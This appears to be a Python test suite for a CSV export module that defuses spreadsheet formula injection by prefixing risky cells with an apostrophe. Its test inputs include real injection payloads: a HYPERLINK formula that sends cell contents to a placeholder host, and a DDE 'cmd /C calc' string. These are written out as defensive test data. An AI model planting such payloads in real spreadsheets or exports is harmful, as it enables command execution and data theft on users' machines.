"""An exported csv file: it reads back as it was, and no cell of it is a formula."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from tapeout.spreadsheet import csv_text, inert

TRIGGERS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?([eE][+-]?[0-9]+)?%?")
# Any text, and often text that begins as a formula may.
CELLS = st.one_of(
    st.text(st.characters(exclude_categories=["Cs"])),
    st.text("=+-@\t\r\n \"',;0123456789.eE%A\u3000\u00a0\uff1d\uff0b\uff0d\uff20|!", max_size=12),
)
TABLES = st.integers(1, 4).flatmap(
    lambda width: st.lists(st.lists(CELLS, min_size=width, max_size=width), min_size=1, max_size=6)
)


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


@given(TABLES)
def test_it_reads_back_the_same_up_to_the_apostrophe(table):
    back = read(csv_text(table[0], table[1:]))
    assert len(back) == len(table)
    for got, given_ in zip(back, table, strict=True):
        assert len(got) == len(given_)
        assert all(a in (b, "'" + b) for a, b in zip(got, given_, strict=True))


@given(CELLS)
@example(" =1+1")
@example("\n=1")
@example('"=1')
@example("\u3000＝1")
def test_no_cell_begins_with_what_a_spreadsheet_runs(cell):
    safe = inert(cell)
    # A spreadsheet passes over spaces and a quote before it looks for a formula.
    seen = safe.lstrip(' \n"\u3000\u00a0')
    assert NUMBER.fullmatch(safe) or safe[:1] == "'" or seen[:1] not in set(TRIGGERS)


@given(CELLS)
def test_what_is_harmless_stays_as_it_is(cell):
    if not any(trigger in cell for trigger in "=+-@\t\r\n\x00\uff1d\uff0b\uff0d\uff20"):
        assert inert(cell) == cell


@pytest.mark.parametrize("cell", ["-12.5", "+3", "0", "-0.001", "1e5", "-1.5E-3", "-62.4%"])
def test_a_plain_number_stays_a_number(cell):
    assert inert(cell) == cell


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://x.example?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
        "\t=1+1", "\r=1+1", " =1+1", '"=1+1', "'=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "-",
        "-1.2.3", "+1 234", "-１", "\u3000=1", "\u00a0@a", "\ufeff=1",
    ],
)  # fmt: skip
def test_a_formula_is_led_by_an_apostrophe(cell):
    assert inert(cell) == "'" + cell
    assert read(csv_text(["name"], [[cell]])) == [["name"], ["'" + cell]]


def test_a_header_is_made_inert_too():
    assert csv_text(["=a", "b"], []) == "'=a,b\n"


def test_quotes_commas_and_lines_are_quoted_and_lines_end_in_lf():
    assert csv_text(["a", "b"], [['x "y"', "1,2"], ["line\nline", None]]) == (
        'a,b\n"x ""y""","1,2"\n"line\nline",\n'
    )


@pytest.mark.parametrize("row", [["1"], ["1", "2", "3"]])
def test_a_row_of_another_length_is_refused(row):
    with pytest.raises(ValueError, match=rf"row 2 has {len(row)} cells, expected 2: a, b"):
        csv_text(["a", "b"], [["1", "2"], row])
